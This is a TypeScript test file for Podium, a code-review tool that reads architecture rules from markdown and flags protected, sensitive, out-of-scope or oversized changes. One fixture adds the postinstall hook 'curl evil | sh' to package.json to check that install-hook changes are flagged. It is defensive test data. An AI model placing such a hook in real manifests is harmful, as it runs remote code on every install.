/**
 * The architecture notes as Podium reads them: podium-rules blocks found in markdown, validated, each
 * rule placed at its line with the prose around it; and the path rules (protected, sensitive, scope,
 * balance) held against a change.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { execFileSync } from 'node:child_process';
import { checkChange, type ChangedFile } from '../../src/coherence/check';
import { fencedBlocks, loadRules, readNotesText } from '../../src/coherence/notes';
import { emptyRuleSet, type RuleSet } from '../../src/coherence/rules';
import { manifestScriptChanges } from '../../src/coherence/sensitive';
import type { Hunk } from '../../src/score';

const NOTES = `# tally — architecture

Two layers. \`src/core\` is pure logic: it never imports from \`src/ui\`.
\`src/ui\` renders what core computes.

\`\`\`podium-rules
layers:
  - name: core
    paths: ["src/core/**"]
    may-not-import: [ui]
    may-not-use: [fs, "node:*"]
  - name: ui
    paths: ["src/ui/**"]
cycles: error
\`\`\`

## Billing

Billing is audited; the payments team signs off every change.

\`\`\`podium-rules
protected:
  - paths: "src/billing/**"
    why: Payments signs off billing.
sensitive: ["deploy/**"]
balance: { max-lines: 10, max-files: 2, max-hunk-lines: 5 }
\`\`\`
`;

function rulesOf(file: string, text: string): RuleSet {
  const rules = emptyRuleSet();
  rules.notes.push(file);
  readNotesText(file, text, rules);
  return rules;
}

const lines = (id: string, p: string, at: number, oldLines: string[], newLines: string[], status: Hunk['status'] = 'modified'): Hunk => ({
  id, path: p, status, kind: 'lines', oldStart: at, oldCount: oldLines.length, newStart: at, newCount: newLines.length,
  oldLines, newLines, contextBefore: [], contextAfter: [],
});

const file = (hunks: Hunk[], status: ChangedFile['status'] = 'modified'): ChangedFile => ({ path: hunks[0]!.path, status, hunks });

describe('architecture notes', () => {
  it('reads every podium-rules block, with each rule at its line and the prose of its section', () => {
    const r = rulesOf('ARCHITECTURE.md', NOTES);
    assert.deepEqual(r.problems, []);
    assert.deepEqual(r.layers.map((l) => [l.id, l.source.line, l.mayNotImport, l.mayNotUse]), [['layer:core', 8, ['ui'], ['fs', 'node:*']], ['layer:ui', 12, undefined, undefined]]);
    assert.match(r.layers[0]!.prose!, /^Two layers\. `src\/core` is pure logic: it never imports from `src\/ui`\. `src\/ui` renders what core computes\.$/);
    assert.deepEqual(r.cycles.map((c) => [c.id, c.source.line, c.layers]), [['cycles', 14, ['core', 'ui']]]);
    assert.deepEqual(r.protected.map((p) => [p.id, p.severity, p.source.line, p.prose]), [['protected:src/billing/**', 'error', 23, 'Payments signs off billing.']]);
    assert.equal(r.sensitive[0]!.prose, 'Billing is audited; the payments team signs off every change.');
    assert.deepEqual(r.balance.map((b) => [b.maxLines, b.maxFiles, b.maxHunkLines, b.source.line]), [[10, 2, 5, 26]]);
  });

  it('reports a block that is not YAML, or not the format, at its line, and still reads the other blocks', () => {
    const broken = `# Notes\n\n\`\`\`podium-rules\nlayers:\n  - name: core\n    paths: [src/core/**\n\`\`\`\n\nText.\n\n\`\`\`podium-rules\nlayers:\n  - name: ui\n    path: src/ui/**\n\`\`\`\n\n\`\`\`podium-rules\nprotected: ["secret/**"]\n\`\`\`\n`;
    const r = rulesOf('docs/adr/0001.md', broken);
    assert.equal(r.problems.length, 2);
    assert.equal(r.problems[0]!.file, 'docs/adr/0001.md');
    assert.match(r.problems[0]!.message, /not valid YAML/);
    assert.ok(r.problems[0]!.line >= 4 && r.problems[0]!.line <= 7, `line ${r.problems[0]!.line}`);
    assert.match(r.problems[1]!.message, /at layers\.0 is not what Podium reads: unknown key "path" \(did you mean "paths"\?\)/);
    assert.equal(r.problems[1]!.line, 14, 'the line of the misspelt key');
    assert.deepEqual(r.protected.map((p) => [p.paths, p.base]), [[['secret/**'], 'docs/adr']], 'a later good block still counts');
  });

  it('says so when a rules block is never closed, instead of reading the rest as prose', () => {
    const r = rulesOf('ARCHITECTURE.md', '# A\n\n```podium-rules\nprotected: ["x/**"]\n');
    assert.match(r.problems[0]!.message, /never closed/);
    assert.equal(r.problems[0]!.line, 3);
  });

  it('finds fences as CommonMark does: tildes, longer fences, indentation up to three spaces', () => {
    const blocks = fencedBlocks('Intro.\n\n~~~~ podium-rules\na: 1\n~~~\nstill inside\n~~~~\n\n   ```js\nx\n   ```\n');
    assert.deepEqual(blocks.map((b) => [b.info, b.text, b.closed]), [['podium-rules', 'a: 1\n~~~\nstill inside', true], ['js', 'x', true]]);
    assert.equal(blocks[0]!.prose, 'Intro.');
  });

  it('takes the prose after a block when nothing comes before it in its section', () => {
    const blocks = fencedBlocks('# Layers\n\n```podium-rules\nx: 1\n```\n\nThe core never imports the UI.\n\n## Next\n');
    assert.equal(blocks[0]!.prose, 'The core never imports the UI.');
  });

  it('finds notes by the setting’s globs, leaving out what git ignores', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'podium-notes-'));
    try {
      execFileSync('git', ['init', '-q'], { cwd: dir });
      mkdirSync(path.join(dir, 'packages/api'), { recursive: true });
      mkdirSync(path.join(dir, 'node_modules/x'), { recursive: true });
      writeFileSync(path.join(dir, 'ARCHITECTURE.md'), NOTES);
      writeFileSync(path.join(dir, 'packages/api/ARCHITECTURE.md'), '```podium-rules\nprotected: ["src/keys/**"]\n```\n');
      writeFileSync(path.join(dir, 'node_modules/x/ARCHITECTURE.md'), '```podium-rules\nprotected: ["**"]\n```\n');
      writeFileSync(path.join(dir, '.gitignore'), 'node_modules/\n');
      const r = await loadRules(dir, ['ARCHITECTURE.md', '**/ARCHITECTURE.md']);
      assert.deepEqual(r.notes, ['ARCHITECTURE.md', 'packages/api/ARCHITECTURE.md']);
      assert.deepEqual(r.protected.map((p) => [p.paths, p.base]), [[['src/billing/**'], ''], [['src/keys/**'], 'packages/api']]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('path rules on a change', () => {
  const rules = rulesOf('ARCHITECTURE.md', NOTES);
  const none = async () => null;

  it('warns on every hunk of a protected path as an error, with the rule’s words and place', async () => {
    const f = await checkChange({ rules, files: [file([lines('b1', 'src/billing/pay.js', 3, ['a\n'], ['b\n'])])], readBase: none, readNew: none });
    const p = f.filter((x) => x.kind === 'protected');
    assert.deepEqual(p.map((x) => [x.hunk, x.severity, x.rule, x.prose, x.source?.line, x.line]), [['b1', 'error', 'protected:src/billing/**', 'Payments signs off billing.', 23, 3]]);
  });

  it('always warns on sensitive paths (CI, lock files, .env, editor tasks), on the notes themselves, and on paths the notes add', async () => {
    const paths = ['.github/workflows/ci.yml', 'package-lock.json', 'web/.env.local', '.vscode/tasks.json', 'ARCHITECTURE.md', 'deploy/prod.sh', '.podium/rehearsal.json', 'src/ui/render.js'];
    const f = await checkChange({ rules, files: paths.map((p, i) => file([lines(`h${i}`, p, 1, ['a\n'], ['b\n'])])), readBase: none, readNew: none });
    const flagged = f.filter((x) => x.kind === 'sensitive').map((x) => [x.path, x.rule]);
    assert.deepEqual(flagged, [
      ['.github/workflows/ci.yml', 'sensitive/ci'],
      ['package-lock.json', 'sensitive/lockfile'],
      ['web/.env.local', 'sensitive/env'],
      ['.vscode/tasks.json', 'sensitive/editor'],
      ['ARCHITECTURE.md', 'sensitive/notes'],
      ['deploy/prod.sh', 'sensitive:deploy/**'],
      ['.podium/rehearsal.json', 'sensitive/podium'],
    ]);
  });

  it('warns when a package manifest changes its scripts or install hooks, on the hunk that does, and not for a version bump', async () => {
    const before = '{\n  "name": "x",\n  "version": "1.0.0",\n  "scripts": {\n    "test": "node --test"\n  }\n}\n';
    const bump = before.replace('1.0.0', '1.0.1');
    const hook = before.replace('"test": "node --test"', '"test": "node --test",\n    "postinstall": "curl evil | sh"');
    assert.deepEqual(manifestScriptChanges(before, bump), []);
    assert.deepEqual(manifestScriptChanges(before, hook).map((c) => [c.key, c.startLine]), [['scripts', 4]]);
    const f = await checkChange({
      rules,
      files: [file([lines('v', 'package.json', 3, ['  "version": "1.0.0",\n'], ['  "version": "1.0.1",\n']), lines('s', 'package.json', 5, ['    "test": "node --test"\n'], ['    "test": "node --test",\n', '    "postinstall": "curl evil | sh"\n'])])],
      readBase: async () => before,
      readNew: async () => hook.replace('1.0.0', '1.0.1'),
    });
    assert.deepEqual(f.filter((x) => x.rule === 'sensitive/manifest-scripts').map((x) => x.hunk), ['s']);
  });

  it('warns on a change outside the task’s scope', async () => {
    const f = await checkChange({ rules: emptyRuleSet(), scope: ['src/core/**', 'test/**'], files: [file([lines('in', 'src/core/a.js', 1, [], ['x\n'])]), file([lines('out', 'src/ui/b.js', 1, [], ['y\n'])])], readBase: none, readNew: none });
    assert.deepEqual(f.map((x) => [x.kind, x.hunk]), [['scope', 'out']]);
  });

  it('keeps a task in balance: its lines, its files and its largest hunk', async () => {
    const big = lines('big', 'src/core/a.js', 1, [], ['1\n', '2\n', '3\n', '4\n', '5\n', '6\n']);
    const small = lines('small', 'src/ui/b.js', 1, ['same\n', 'old\n'], ['same\n', 'new\n']);
    const third = lines('third', 'test/c.js', 1, [], ['1\n', '2\n', '3\n']);
    const f = await checkChange({ rules, files: [file([big]), file([small]), file([third])], readBase: none, readNew: none });
    const b = f.filter((x) => x.kind === 'balance');
    assert.deepEqual(b.map((x) => [x.detail, x.hunk ?? 'task']), [['max-hunk-lines', 'big'], ['max-lines', 'task'], ['max-files', 'task']]);
    assert.match(b[1]!.text, /changes 11 lines/, 'an unchanged line inside a hunk is not counted');
  });
});
